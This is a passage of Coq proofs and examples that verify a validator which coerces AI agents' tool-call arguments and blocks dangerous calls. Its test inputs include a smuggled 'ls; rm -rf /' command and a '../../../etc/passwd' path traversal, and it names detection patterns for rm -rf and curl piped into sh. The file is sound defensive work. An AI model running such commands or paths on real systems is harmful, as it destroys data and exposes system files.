  tryParseJson (JString "{a: 'b',}") = mkParseResult (JObject [("a", JString "b")]) true /\
  tryParseJson (JString "{a: b}") = mkParseResult (JString "{a: b}") false.
Proof.
  destruct tryParseJson_spec as (Hpass & Hstrict & Hfix & _).
  split; [|split; [|split]].
  - apply (Hpass (JNumber 3)). reflexivity.
  - apply (Hstrict "[1, 2]"). vm_compute. reflexivity.
  - apply (Hfix "{a: 'b',}"); vm_compute; reflexivity.
  - apply (Hfix "{a: b}"); vm_compute; reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** coerceValue *)
(* ------------------------------------------------------------------------- *)

Example coerce_samples :
  coerceValue (JString "5") "number" = mkCoercion (JNumber 5) true /\
  coerceValue (JString "abc") "integer" = mkCoercion (JString "abc") false /\
  coerceValue (JString "YES") "boolean" = mkCoercion (JBoolean true) true /\
  coerceValue (JString "0") "boolean" = mkCoercion (JBoolean false) true /\
  coerceValue (JString "maybe") "boolean" = mkCoercion (JString "maybe") false /\
  coerceValue (JNumber 2) "boolean" = mkCoercion (JBoolean true) true /\
  coerceValue (JNumber 0) "boolean" = mkCoercion (JBoolean false) true /\
  coerceValue (JString "[1, 2]") "array"
  = mkCoercion (JArray [JNumber 1; JNumber 2]) true /\
  coerceValue (JString "a, b ,c") "array"
  = mkCoercion (JArray [JString "a"; JString "b"; JString "c"]) true /\
  coerceValue (JString "solo") "array" = mkCoercion (JArray [JString "solo"]) true /\
  coerceValue (JString "{a: 1}") "object"
  = mkCoercion (JObject [("a", JNumber 1)]) true /\
  coerceValue (JNumber 1.5) "string" = mkCoercion (JString "1.5") true /\
  coerceValue (JArray [JNumber 1; JNull; JString "x"]) "string"
  = mkCoercion (JString "1,,x") true /\
  coerceValue JNull "string" = mkCoercion JNull false /\
  coerceValue (JBoolean true) "number" = mkCoercion (JBoolean true) false.
Proof. vm_compute. repeat split. Qed.

(* ------------------------------------------------------------------------- *)
(** ** validateToolCall on sample calls *)
(* ------------------------------------------------------------------------- *)


Example validate_repairs_count :
  @validateToolCall SimpleSchema.typebox default_config "search" [("count", JString "5")]
    (Some Samples.count_schema)
  = mkValidationResult true [] (Some [("count", JNumber 5)]) false None.
Proof. vm_compute. reflexivity. Qed.

Example validate_valid_call :
  @validateToolCall SimpleSchema.typebox default_config "search" [("count", JNumber 5)]
    (Some Samples.count_schema)
  = mkValidationResult true [] None false None.
Proof. vm_compute. reflexivity. Qed.

Example validate_unrepairable :
  @validateToolCall SimpleSchema.typebox default_config "search" [("count", JString "many")]
    (Some Samples.count_schema)
  = mkValidationResult false ["/count: Expected number"] None false None.
Proof. vm_compute. reflexivity. Qed.

Example validate_block_on_failure :
  @validateToolCall SimpleSchema.typebox Samples.blocking_config "greet" [] (Some Samples.name_schema)
  = mkValidationResult false ["/name: Expected required property"] None true
      (Some "Validation failed: /name: Expected required property").
Proof. vm_compute. reflexivity. Qed.

Example validate_dangerous_beats_schema :
  @validateToolCall SimpleSchema.typebox default_config "bash"
    [("command", JString "ls; rm -rf /"); ("count", JString "5")]
    (Some Samples.count_schema)
  = mkValidationResult false
      ["Potentially dangerous pattern detected in command: /;\s*rm\s+-rf/"]
      None true
      (Some "Potentially dangerous pattern detected in command: /;\s*rm\s+-rf/").
Proof. vm_compute. reflexivity. Qed.

Example handler_blocks_dangerous :
  @before_tool_call SimpleSchema.typebox default_config initial_state
    (mkToolCallEvent "read_file" [("path", JString "../../../etc/passwd")])
  = (mkPluginState [] (Stats.mk 1 0 1 0),
     [Warn "tool-validator: blocked read_file: Potentially dangerous pattern detected in path: /\.\.\//"],
     BlockCall (Some "Potentially dangerous pattern detected in path: /\.\.\//")).
Proof. vm_compute. reflexivity. Qed.

Example handler_logs_fuzzy_match :
  @before_tool_call SimpleSchema.typebox default_config
    (mkPluginState ["chroma_search"; "chroma_store"] Stats.zero)
    (mkToolCallEvent "chrom_search" [])
  = (mkPluginState ["chroma_search"; "chroma_store"] (Stats.mk 1 0 0 0),
     [Info ("tool-validator: fuzzy matched " ++ q "chrom_search" ++ " -> "
            ++ q "chroma_search" ++ " (distance: 1)")],
     Undefined).
Proof. vm_compute. reflexivity. Qed.

(* ------------------------------------------------------------------------- *)
(** ** coerceValue: the table of coercions *)
(* ------------------------------------------------------------------------- *)

(** C5. [coerceValue] follows the table of coercions.  Target [number] or
    [integer]: a string is read as a number, and one that is no number is
    returned as it is, not coerced.  Target [boolean]: the strings true, 1
    and yes, in any case, give [true]; false, 0 and no give [false]; a
    number gives [value !== 0]; any other string is returned as it is.
    Target [array]: a string that [tryParseJson] turns into an array gives
    that array; else one with a comma is split at the commas and the pieces
    trimmed; else it is wrapped in a one-element array. *)
Theorem coerceValue_table (s : string) :
  (* number, integer *)
  coerceValue (JString s) "integer" = coerceValue (JString s) "number" /\
  (JsNumber.isNaN (JsNumber.of_string s) = false ->
     coerceValue (JString s) "number"
     = mkCoercion (JNumber (JsNumber.of_string s)) true) /\
  (JsNumber.isNaN (JsNumber.of_string s) = true ->
     coerceValue (JString s) "number" = mkCoercion (JString s) false) /\
  (* boolean *)
  (In (JsString.toLowerCase s) true_words ->
     coerceValue (JString s) "boolean" = mkCoercion (JBoolean true) true) /\
  (In (JsString.toLowerCase s) false_words ->
     coerceValue (JString s) "boolean" = mkCoercion (JBoolean false) true) /\
  (~ In (JsString.toLowerCase s) (true_words ++ false_words) ->
     coerceValue (JString s) "boolean" = mkCoercion (JString s) false) /\
  (forall n : float,
     coerceValue (JNumber n) "boolean"
     = mkCoercion (JBoolean (negb (PrimFloat.eqb n 0))) true) /\
  (* array *)
  (forall items,
     parsed (tryParseJson (JString s)) = JArray items ->
     coerceValue (JString s) "array" = mkCoercion (JArray items) true) /\
  (Value.isArray (parsed (tryParseJson (JString s))) = false ->
   JsString.includes s "," = true ->
     coerceValue (JString s) "array"
     = mkCoercion (JArray (map (fun piece => JString (JsString.trim piece))
                               (JsString.split s ","))) true) /\
  (Value.isArray (parsed (tryParseJson (JString s))) = false ->
   JsString.includes s "," = false ->
     coerceValue (JString s) "array" = mkCoercion (JArray [JString s]) true).
Proof.
  assert (Hsuccess : forall items,
            parsed (tryParseJson (JString s)) = JArray items ->
            success (tryParseJson (JString s)) = true).
  { intros items. simpl.
    destruct (JSON.parse s); [reflexivity|].
    destruct (JSON.parse (Fixups.apply s)); [reflexivity | discriminate]. }
  repeat match goal with |- _ /\ _ => split end.
  - reflexivity.
  - intros Hnum. cbn. unfold coerce_number. now rewrite Hnum.
  - intros Hnan. cbn. unfold coerce_number. now rewrite Hnan.
  - intros Hin. cbn. unfold coerce_boolean.
    remember (JsString.toLowerCase s) as l eqn:El. clear El.
    destruct Hin as [<-|[<-|[<-|[]]]]; reflexivity.
  - intros Hin. cbn. unfold coerce_boolean.
    remember (JsString.toLowerCase s) as l eqn:El. clear El.
    destruct Hin as [<-|[<-|[<-|[]]]]; reflexivity.
  - intros Hnot. cbn. unfold coerce_boolean.
    remember (JsString.toLowerCase s) as l eqn:El. clear El.
    unfold true_words, false_words in Hnot. simpl in Hnot.
    destruct (String.eqb_spec l "true"); [intuition congruence|].
    destruct (String.eqb_spec l "1"); [intuition congruence|].
    destruct (String.eqb_spec l "yes"); [intuition congruence|].
    destruct (String.eqb_spec l "false"); [intuition congruence|].
    destruct (String.eqb_spec l "0"); [intuition congruence|].
    destruct (String.eqb_spec l "no"); [intuition congruence|].
    reflexivity.
  - reflexivity.
  - intros items Hitems.
    change (coerceValue (JString s) "array") with (coerce_array (JString s)).
    unfold coerce_array. now rewrite (Hsuccess items Hitems), Hitems.
  - intros Hno Hcomma.
    change (coerceValue (JString s) "array") with (coerce_array (JString s)).
    unfold coerce_array. now rewrite Hno, andb_false_r, Hcomma.
  - intros Hno Hcomma.
    change (coerceValue (JString s) "array") with (coerce_array (JString s)).
    unfold coerce_array. now rewrite Hno, andb_false_r, Hcomma.
Qed.

Lemma coerceValue_table_witness :
  coerceValue (JString "42") "number" = mkCoercion (JNumber 42) true /\
  coerceValue (JString "4 apples") "number" = mkCoercion (JString "4 apples") false /\
  coerceValue (JString "Yes") "boolean" = mkCoercion (JBoolean true) true /\
  coerceValue (JString "NO") "boolean" = mkCoercion (JBoolean false) true /\
  coerceValue (JString "perhaps") "boolean" = mkCoercion (JString "perhaps") false /\
  coerceValue (JString "[1,]") "array" = mkCoercion (JArray [JNumber 1]) true /\
  coerceValue (JString "a, b") "array"
  = mkCoercion (JArray [JString "a"; JString "b"]) true /\
  coerceValue (JString "a b") "array" = mkCoercion (JArray [JString "a b"]) true.
Proof.
  repeat match goal with |- _ /\ _ => split end.
  - destruct (coerceValue_table "42") as (_ & Hnum & _).
    apply Hnum. vm_compute. reflexivity.
  - destruct (coerceValue_table "4 apples") as (_ & _ & Hnan & _).
    apply Hnan. vm_compute. reflexivity.
  - destruct (coerceValue_table "Yes") as (_ & _ & _ & Htrue & _).
    apply Htrue. vm_compute. tauto.
  - destruct (coerceValue_table "NO") as (_ & _ & _ & _ & Hfalse & _).
    apply Hfalse. vm_compute. tauto.
  - destruct (coerceValue_table "perhaps") as (_ & _ & _ & _ & _ & Hother & _).
    apply Hother. vm_compute.
    intros [E|[E|[E|[E|[E|[E|[]]]]]]]; discriminate E.
  - destruct (coerceValue_table "[1,]") as (_ & _ & _ & _ & _ & _ & _ & Hjson & _).
    apply Hjson. vm_compute. reflexivity.
  - destruct (coerceValue_table "a, b") as (_ & _ & _ & _ & _ & _ & _ & _ & Hsplit & _).
    apply Hsplit; vm_compute; reflexivity.
  - destruct (coerceValue_table "a b") as (_ & _ & _ & _ & _ & _ & _ & _ & _ & Hwrap).
    apply Hwrap; vm_compute; reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The danger check comes first *)
(* ------------------------------------------------------------------------- *)

Lemma first_matching_found (patterns : list RegExp.t) (value : string) :
  (exists regex, In regex patterns /\ RegExp.test regex value = true) ->
  exists regex, first_matching patterns value = Some regex /\
                In regex patterns /\ RegExp.test regex value = true.
Proof.
  induction patterns as [|p patterns IH]; intros (regex & Hin & Htest).
  - destruct Hin.
  - simpl. destruct (RegExp.test p value) eqn:Hp.
    + exists p. split; [reflexivity|]. split; [now left | exact Hp].
    + destruct Hin as [->|Hin]; [congruence|].
      destruct IH as (regex' & Hfirst & Hin' & Htest'); [now exists regex|].
      exists regex'. split; [exact Hfirst|]. split; [now right | exact Htest'].
Qed.

Lemma first_matching_sound (patterns : list RegExp.t) (value : string)
    (regex : RegExp.t) :
  first_matching patterns value = Some regex ->
  In regex patterns /\ RegExp.test regex value = true.
Proof.
  induction patterns as [|p patterns IH]; simpl; [discriminate|].
  destruct (RegExp.test p value) eqn:Hp.
  - intros [= <-]. split; [now left | exact Hp].
  - intros Hfirst. destruct (IH Hfirst). split; [now right | assumption].
Qed.

(** When some rule of the table fires, the scan reports the first one that
    does, with the message built from its field and its pattern. *)
Lemma check_rules_fires (rules : list DangerRule) (toolName : string)
    (params : JSObject) :
  (exists rule, In rule rules /\ rule_fires rule toolName params) ->
  exists rule regex,
    In rule rules /\ rule_fires rule toolName params /\
    In regex (rule_patterns rule) /\
    check_rules rules toolName params
    = mkDangerCheck true (Some (danger_reason (rule_param rule) regex)).
Proof.
  induction rules as [|r rules IH]; intros (rule & Hin & Hfires).
  - destruct Hin.
  - assert (Hrest : rule <> r ->
              exists rule' regex,
                In rule' (r :: rules) /\ rule_fires rule' toolName params /\
                In regex (rule_patterns rule') /\
                check_rules rules toolName params
                = mkDangerCheck true (Some (danger_reason (rule_param rule') regex))).
    { intros Hne. destruct Hin as [Heq|Hin]; [congruence|].
      destruct IH as (rule' & regex & Hin' & Hf & Hre & Hcheck); [now exists rule|].
      exists rule', regex. split; [now right|].
      split; [exact Hf | split; [exact Hre | exact Hcheck]]. }
    simpl.
    destruct (negb (String.eqb (rule_tool r) "*")
              && negb (String.eqb (rule_tool r) toolName)) eqn:Hskip.
    + apply Hrest. intros ->. destruct Hfires as [[Hstar|Htool] _].
      * now rewrite Hstar in Hskip.
      * rewrite Htool, String.eqb_refl, andb_false_r in Hskip. discriminate.
    + destruct (Obj.get params (rule_param r)) as [| | | |value| | |] eqn:Hget;
        try (apply Hrest; intros ->;
             destruct Hfires as (_ & v & re & Hv & _); congruence).
      destruct (first_matching (rule_patterns r) value) as [regex|] eqn:Hfirst.
      * destruct (first_matching_sound _ _ _ Hfirst) as [Hre Htest].
        exists r, regex. split; [now left|]. split; [|split; [exact Hre | reflexivity]].
        split; [|now exists value, regex].
        apply andb_false_iff in Hskip as [Hs|Hs]; apply negb_false_iff in Hs;
          apply String.eqb_eq in Hs; auto.
      * apply Hrest. intros ->.
        destruct Hfires as (_ & v & re & Hv & Hre & Htest).
        rewrite Hget in Hv. injection Hv as <-.
        destruct (first_matching_found (rule_patterns r) value) as (re' & Hsome & _);
          [now exists re | congruence].
Qed.

(** The regex that the inner loop returns is the first that matches. *)
Lemma first_matching_first (patterns : list RegExp.t) (value : string)
    (regex : RegExp.t) :
  first_matching patterns value = Some regex ->
  first_to_match patterns value regex.
Proof.
  revert regex. induction patterns as [|p patterns IH]; intros regex; simpl;
    [discriminate|].
  destruct (RegExp.test p value) eqn:Hp.
  - intros [= <-]. exists [], patterns. split; [reflexivity|].
    split; [intros q []| exact Hp].
  - intros Hfirst. destruct (IH regex Hfirst) as (before & after & -> & Hno & Hyes).
    exists (p :: before), after. split; [reflexivity|]. split; [|exact Hyes].
    intros q [<-|Hq]; [exact Hp | now apply Hno].
Qed.

(** A rule that the scan passes over does not fire. *)
Lemma first_to_fire_later (rules : list DangerRule) (toolName : string)
    (params : JSObject) (r rule : DangerRule) :
  ~ rule_fires r toolName params ->
  first_to_fire rules toolName params rule ->
  first_to_fire (r :: rules) toolName params rule.
Proof.
  intros Hr (before & after & -> & Hno & Hyes).
  exists (r :: before), after. split; [reflexivity|]. split; [|exact Hyes].
  intros q [<-|Hq]; [exact Hr | now apply Hno].
Qed.

(** The scan answers [false] without a reason, or stops at the first rule
    that fires and at the first pattern of that rule that matches the
    argument, and builds the message from the two. *)
Lemma check_rules_first (rules : list DangerRule) (toolName : string)
    (params : JSObject) :
  check_rules rules toolName params = mkDangerCheck false None \/
  exists rule value regex,
    first_to_fire rules toolName params rule /\
    Obj.get params (rule_param rule) = JString value /\
    first_matching (rule_patterns rule) value = Some regex /\
    check_rules rules toolName params
    = mkDangerCheck true (Some (danger_reason (rule_param rule) regex)).
Proof.
  induction rules as [|r rules IH]; [now left|].
  assert (Hrest : ~ rule_fires r toolName params ->
            check_rules rules toolName params = mkDangerCheck false None \/
            exists rule value regex,
              first_to_fire (r :: rules) toolName params rule /\
              Obj.get params (rule_param rule) = JString value /\
              first_matching (rule_patterns rule) value = Some regex /\
              check_rules rules toolName params
              = mkDangerCheck true (Some (danger_reason (rule_param rule) regex))).
  { intros Hr. destruct IH as [IH | (rule & value & regex & Hf & Hv & Hm & Hc)];
      [now left|].
    right. exists rule, value, regex.
    split; [now apply first_to_fire_later|]. now repeat split. }
  cbn [check_rules].
  destruct (negb (String.eqb (rule_tool r) "*")
            && negb (String.eqb (rule_tool r) toolName)) eqn:Hskip.
  { apply Hrest. intros [[Hstar|Htool] _].
    - now rewrite Hstar in Hskip.
    - rewrite Htool, String.eqb_refl, andb_false_r in Hskip. discriminate. }
  destruct (Obj.get params (rule_param r)) as [| | | |value| | |] eqn:Hget;
    try (apply Hrest; intros (_ & v & re & Hv & _); congruence).
  destruct (first_matching (rule_patterns r) value) as [regex|] eqn:Hfirst.
  - right. exists r, value, regex.
    destruct (first_matching_sound _ _ _ Hfirst) as [Hre Htest].
    split; [|now repeat split].
    exists [], rules. split; [reflexivity|]. split; [intros q []|].
    split; [|now exists value, regex].
    apply andb_false_iff in Hskip as [Hs|Hs]; apply negb_false_iff in Hs;
      apply String.eqb_eq in Hs; auto.
  - apply Hrest. intros (_ & v & re & Hv & Hre & Htest).
    rewrite Hget in Hv. injection Hv as Hv. subst v.
    destruct (first_matching_found (rule_patterns r) value) as (re' & Hsome & _);
      [now exists re | congruence].
Qed.

(** The first rule that fires is a rule of the table, and it fires. *)
Lemma first_to_fire_in (rules : list DangerRule) (toolName : string)
    (params : JSObject) (rule : DangerRule) :
  first_to_fire rules toolName params rule ->
  In rule rules /\ rule_fires rule toolName params.
Proof.
  intros (before & after & -> & _ & Hyes). split; [|exact Hyes].
  apply in_or_app. right. now left.
Qed.

Section ValidatorFacts.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** What [validate_schema] returns: no errors and nothing repaired, or no
    errors and a repaired copy that passes the check, or errors and
    nothing repaired. *)
Lemma validate_schema_repaired (params : JSObject) (schema : option ToolSchema)
    (errs : list string) (rep : JSObject) :
  validate_schema cfg params schema = (errs, Some rep) ->
  errs = [] /\
  exists tool_schema parameters,
    schema = Some tool_schema /\
    schema_parameters tool_schema = Some parameters /\
    Value_Check parameters params = false /\
    Value_Check parameters rep = true.
Proof.
  unfold validate_schema.
  destruct schema as [tool_schema|]; [|discriminate].
  destruct (schema_parameters tool_schema) as [parameters|] eqn:Hp; [|discriminate].
  destruct (Value_Check parameters params) eqn:Hcheck; [discriminate|].
  unfold attempt_repair.
  destruct (repairStrategy cfg) as [[]|]; try discriminate;
    destruct (coerce_properties _ params) as [repaired' anyCoerced];
    destruct (anyCoerced && Value_Check parameters repaired') eqn:Hok;
    try discriminate;
    intros [= <- <-]; apply andb_prop in Hok as [_ Hok];
    (split; [reflexivity | now exists tool_schema, parameters]).
Qed.

(** The verdict outside the danger branch. *)
Lemma validateToolCall_not_dangerous (toolName : string) (params : JSObject)
    (schema : option ToolSchema) :
  not_false (blockDangerousCalls cfg)
  && dangerous (checkDangerousCall toolName params) = false ->
  validateToolCall cfg toolName params schema
  = let errs := fst (validate_schema cfg params schema) in
    let blocks := Nat.ltb 0 (List.length errs)
                  && truthy (blockOnValidationFailure cfg) in
    mkValidationResult (Nat.eqb (List.length errs) 0) errs
      (snd (validate_schema cfg params schema)) blocks
      (if blocks then Some (validation_failed errs) else None).
Proof.
  intros Hsafe. unfold validateToolCall. rewrite Hsafe.
  destruct (validate_schema cfg params schema) as [errs rep].
  cbv zeta. cbn [fst snd].
  now destruct (Nat.ltb 0 (List.length errs) && truthy (blockOnValidationFailure cfg)).
Qed.

(** The verdict in the danger branch. *)
Lemma validateToolCall_dangerous (toolName : string) (params : JSObject)
    (schema : option ToolSchema) (rule : DangerRule) (regex : RegExp.t) :
  not_false (blockDangerousCalls cfg) = true ->
  checkDangerousCall toolName params
  = mkDangerCheck true (Some (danger_reason (rule_param rule) regex)) ->
  validateToolCall cfg toolName params schema
  = mkValidationResult false [danger_reason (rule_param rule) regex] None true
      (Some (danger_reason (rule_param rule) regex)).
Proof.
  intros Hon Hcheck. unfold validateToolCall. rewrite Hon, Hcheck. reflexivity.
Qed.

(** A verdict that carries repaired arguments is valid, has no errors
    and is not blocked, and the repaired arguments pass the check. *)
Lemma validateToolCall_repaired_sound (toolName : string) (params : JSObject)
    (schema : option ToolSchema) (rep : JSObject) :
  repaired (validateToolCall cfg toolName params schema) = Some rep ->
  validateToolCall cfg toolName params schema
  = mkValidationResult true [] (Some rep) false None /\
  exists tool_schema parameters,
    schema = Some tool_schema /\
    schema_parameters tool_schema = Some parameters /\
    Value_Check parameters rep = true.
Proof.
  intros Hrep.
  destruct (not_false (blockDangerousCalls cfg)
            && dangerous (checkDangerousCall toolName params)) eqn:Hdanger.
  - unfold validateToolCall in Hrep. rewrite Hdanger in Hrep. discriminate Hrep.
  - rewrite validateToolCall_not_dangerous in Hrep |- * by exact Hdanger.
    cbv zeta in *.
    destruct (validate_schema cfg params schema) as [errs rep'] eqn:Hv.
    cbn [fst snd valid errors repaired blocked] in *. subst rep'.
    destruct (validate_schema_repaired params schema _ _ Hv)
      as (-> & tool_schema & parameters & Hs & Hp & _ & Hok).
    split; [reflexivity|]. now exists tool_schema, parameters.
Qed.

End ValidatorFacts.

(** C1. When a rule of the danger table fires on a call and
    [blockDangerousCalls] is not [false], [validateToolCall] returns a
    verdict that is blocked and not valid, whose [blockReason] names the
    field of a rule that fires and the pattern of that rule that the
    argument in this field matches, and that carries no repaired
    arguments, whatever the schema and the rest of the configuration.  The
    rule named is the first of the table that fires, and the pattern the
    first of the rule that matches. *)
Theorem validateToolCall_blocks_dangerous `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema) :
  not_false (blockDangerousCalls cfg) = true ->
  (exists rule, In rule dangerousPatterns /\ rule_fires rule toolName params) ->
  exists rule value regex,
    In rule dangerousPatterns /\ rule_fires rule toolName params /\
    Obj.get params (rule_param rule) = JString value /\
    In regex (rule_patterns rule) /\
    RegExp.test regex value = true /\
    first_to_fire dangerousPatterns toolName params rule /\
    first_to_match (rule_patterns rule) value regex /\
    let message :=
      ("Potentially dangerous pattern detected in " ++ rule_param rule ++ ": "
       ++ RegExp.toString regex)%string in
    validateToolCall cfg toolName params schema
    = mkValidationResult false [message] None true (Some message).
Proof.
  intros Hon Hfires.
  destruct (check_rules_first dangerousPatterns toolName params)
    as [Hsafe | (rule & value & regex & Hfirst & Hvalue & Hmatch & Hcheck)].
  - destruct (check_rules_fires dangerousPatterns toolName params Hfires)
      as (rule & regex & _ & _ & _ & Hcheck).
    rewrite Hsafe in Hcheck. discriminate Hcheck.
  - destruct (first_to_fire_in _ _ _ _ Hfirst) as [Hin Hf].
    destruct (first_matching_sound _ _ _ Hmatch) as [Hre Htest].
    exists rule, value, regex.
    split; [exact Hin|]. split; [exact Hf|]. split; [exact Hvalue|].
    split; [exact Hre|]. split; [exact Htest|]. split; [exact Hfirst|].
    split; [now apply first_matching_first|].
    now apply validateToolCall_dangerous.
Qed.

Lemma validateToolCall_blocks_dangerous_witness :
  exists rule value regex,
    In rule dangerousPatterns /\
    rule_fires rule "bash" [("command", JString "ls; rm -rf /"); ("count", JString "5")] /\
    Obj.get [("command", JString "ls; rm -rf /"); ("count", JString "5")]
      (rule_param rule) = JString value /\
    In regex (rule_patterns rule) /\
    RegExp.test regex value = true /\
    first_to_fire dangerousPatterns "bash"
      [("command", JString "ls; rm -rf /"); ("count", JString "5")] rule /\
    first_to_match (rule_patterns rule) value regex /\
    let message :=
      ("Potentially dangerous pattern detected in " ++ rule_param rule ++ ": "
       ++ RegExp.toString regex)%string in
    @validateToolCall SimpleSchema.typebox default_config "bash"
      [("command", JString "ls; rm -rf /"); ("count", JString "5")]
      (Some Samples.count_schema)
    = mkValidationResult false [message] None true (Some message).
Proof.
  apply (@validateToolCall_blocks_dangerous SimpleSchema.typebox default_config).
  - reflexivity.
  - exists (mkDangerRule "bash" "command" [Patterns.rm_rf; Patterns.curl_pipe_sh]).
    split; [now left|]. split; [now right|].
    exists "ls; rm -rf /", Patterns.rm_rf.
    split; [reflexivity|]. split; [now left | vm_compute; reflexivity].
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The verdict's invariants and the repair *)
(* ------------------------------------------------------------------------- *)

(** C3. Every verdict of [validateToolCall] that is blocked carries no
    repaired arguments, and every verdict that is valid has no errors. *)
Theorem validateToolCall_invariants `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema) :
  let r := validateToolCall cfg toolName params schema in
  (blocked r = true -> repaired r = None) /\
  (valid r = true -> errors r = []).
Proof.
  cbv zeta. split.
  - intros Hblocked.
    destruct (repaired (validateToolCall cfg toolName params schema))
      as [rep|] eqn:Hrep; [|reflexivity].
    destruct (validateToolCall_repaired_sound cfg toolName params schema rep Hrep)
      as [Hr _].
    rewrite Hr in Hblocked. discriminate Hblocked.
  - destruct (not_false (blockDangerousCalls cfg)
              && dangerous (checkDangerousCall toolName params)) eqn:Hdanger.
    + unfold validateToolCall. rewrite Hdanger. discriminate.
    + rewrite validateToolCall_not_dangerous by exact Hdanger. cbv zeta.
      cbn [valid errors]. intros Hvalid. apply Nat.eqb_eq in Hvalid.
      now destruct (fst (validate_schema cfg params schema)).
Qed.

Lemma validateToolCall_invariants_witness :
  repaired (@validateToolCall SimpleSchema.typebox Samples.blocking_config
              "greet" [] (Some Samples.name_schema)) = None /\
  errors (@validateToolCall SimpleSchema.typebox default_config
            "search" [("count", JString "5")] (Some Samples.count_schema)) = [].
Proof.
  split.
  - apply (@validateToolCall_invariants SimpleSchema.typebox Samples.blocking_config
             "greet" [] (Some Samples.name_schema)).
    vm_compute. reflexivity.
  - apply (@validateToolCall_invariants SimpleSchema.typebox default_config
             "search" [("count", JString "5")] (Some Samples.count_schema)).
    vm_compute. reflexivity.
Defined.

(** C4. A verdict of [validateToolCall] that carries repaired arguments has
    no errors, and the repaired arguments pass the check against the same
    schema.  For a call that is not refused as dangerous and fails the
    check, with coercion as the strategy: when some field was coerced and
    the coerced copy passes the check, the verdict carries the copy and no
    errors; when no field was coerced or the copy still fails the check, the
    verdict carries no repaired arguments and keeps the errors of the
    original arguments. *)
Theorem validateToolCall_repair_checked `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema) :
  let r := validateToolCall cfg toolName params schema in
  (forall rep, repaired r = Some rep ->
     errors r = [] /\ valid r = true /\
     exists tool_schema parameters,
       schema = Some tool_schema /\
       schema_parameters tool_schema = Some parameters /\
       Value_Check parameters rep = true) /\
  (forall tool_schema parameters,
     schema = Some tool_schema ->
     schema_parameters tool_schema = Some parameters ->
     not_false (blockDangerousCalls cfg)
     && dangerous (checkDangerousCall toolName params) = false ->
     Value_Check parameters params = false ->
     coercion_enabled cfg = true ->
     let copy := fst (coerce_properties (properties_of parameters) params) in
     let anyCoerced := snd (coerce_properties (properties_of parameters) params) in
     (anyCoerced = true /\ Value_Check parameters copy = true ->
        repaired r = Some copy /\ errors r = []) /\
     (anyCoerced = false \/ Value_Check parameters copy = false ->
        repaired r = None /\ errors r = schema_errors parameters params)).
Proof.
  cbv zeta. split.
  - intros rep Hrep.
    destruct (validateToolCall_repaired_sound cfg toolName params schema rep Hrep)
      as [Hr Hcheck].
    rewrite Hr. split; [reflexivity|]. split; [reflexivity | exact Hcheck].
  - intros tool_schema parameters -> Hp Hdanger Hfail Hcoerce.
    rewrite validateToolCall_not_dangerous by exact Hdanger. cbv zeta.
    unfold validate_schema. rewrite Hp, Hfail. unfold attempt_repair.
    fold (properties_of parameters).
    assert (Hstrategy :
              match repairStrategy cfg with
              | Some Coerce | None => true
              | Some _ => false
              end = true) by exact Hcoerce.
    destruct (coerce_properties (properties_of parameters) params)
      as [copy anyCoerced].
    cbn [fst snd]. split.
    + intros [-> Hok].
      destruct (repairStrategy cfg) as [[]|]; try discriminate Hstrategy;
        cbn [andb]; rewrite Hok; cbn; now split.
    + intros Hbad.
      assert (Hno : anyCoerced && Value_Check parameters copy = false).
      { destruct Hbad as [-> | ->]; [reflexivity | apply andb_false_r]. }
      destruct (repairStrategy cfg) as [[]|]; try discriminate Hstrategy;
        rewrite Hno; cbn; now split.
Qed.

Lemma validateToolCall_repair_checked_witness :
  (errors (@validateToolCall SimpleSchema.typebox default_config
             "search" [("count", JString "5")] (Some Samples.count_schema)) = [] /\
   SimpleSchema.Check
     (SimpleSchema.mk [("count", mkPropertySchema (Some "number"))] ["count"])
     [("count", JNumber 5)] = true) /\
  (repaired (@validateToolCall SimpleSchema.typebox default_config
               "search" [("count", JString "many")] (Some Samples.count_schema)) = None /\
   errors (@validateToolCall SimpleSchema.typebox default_config
             "search" [("count", JString "many")] (Some Samples.count_schema))
   = ["/count: Expected number"]).
Proof.
  split.
  - destruct (@validateToolCall_repair_checked SimpleSchema.typebox default_config
                "search" [("count", JString "5")] (Some Samples.count_schema))
      as [Hrep _].
    destruct (Hrep [("count", JNumber 5)])
      as (Herr & _ & tool_schema & parameters & Hs & Hp & Hok).
    + vm_compute. reflexivity.
    + split; [exact Herr|].
      injection Hs as Hs. subst tool_schema.
      injection Hp as Hp. subst parameters. exact Hok.
  - destruct (@validateToolCall_repair_checked SimpleSchema.typebox default_config
                "search" [("count", JString "many")] (Some Samples.count_schema))
      as [_ Hkeep].
    apply (Hkeep Samples.count_schema
             (SimpleSchema.mk [("count", mkPropertySchema (Some "number"))] ["count"]));
      try reflexivity.
    left. vm_compute. reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The before_tool_call handler *)
(* ------------------------------------------------------------------------- *)

Section HandlerFacts.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** Without a schema, the verdict is the danger check alone. *)
Lemma validateToolCall_no_schema (toolName : string) (params : JSObject) :
  validateToolCall cfg toolName params None
  = if not_false (blockDangerousCalls cfg)
       && dangerous (checkDangerousCall toolName params)
    then mkValidationResult false
           [danger_error (checkDangerousCall toolName params)] None true
           (reason (checkDangerousCall toolName params))
    else mkValidationResult true [] None false None.
Proof.
  unfold validateToolCall.
  now destruct (not_false (blockDangerousCalls cfg)
                && dangerous (checkDangerousCall toolName params)).
Qed.

(** What the handler does, all told. *)
Lemma before_tool_call_unfolded (state : PluginState) (event : ToolCallEvent) :
  before_tool_call cfg state event
  = let fuzzy := fuzzy_match_log cfg (availableTools state) (toolName event) in
    let danger := checkDangerousCall (toolName event) (params event) in
    let st := Stats.incr_validated (stats state) in
    if not_false (blockDangerousCalls cfg) && dangerous danger
    then (mkPluginState (availableTools state) (Stats.incr_blocked st),
          fuzzy ++ log cfg (Warn ("tool-validator: blocked " ++ toolName event
                                  ++ ": " ++ show_optional (reason danger))),
          BlockCall (reason danger))
    else (mkPluginState (availableTools state) st, fuzzy ++ [], Undefined).
Proof.
  unfold before_tool_call. rewrite validateToolCall_no_schema. cbv zeta.
  now destruct (not_false (blockDangerousCalls cfg)
                && dangerous (checkDangerousCall (toolName event) (params event))).
Qed.

End HandlerFacts.

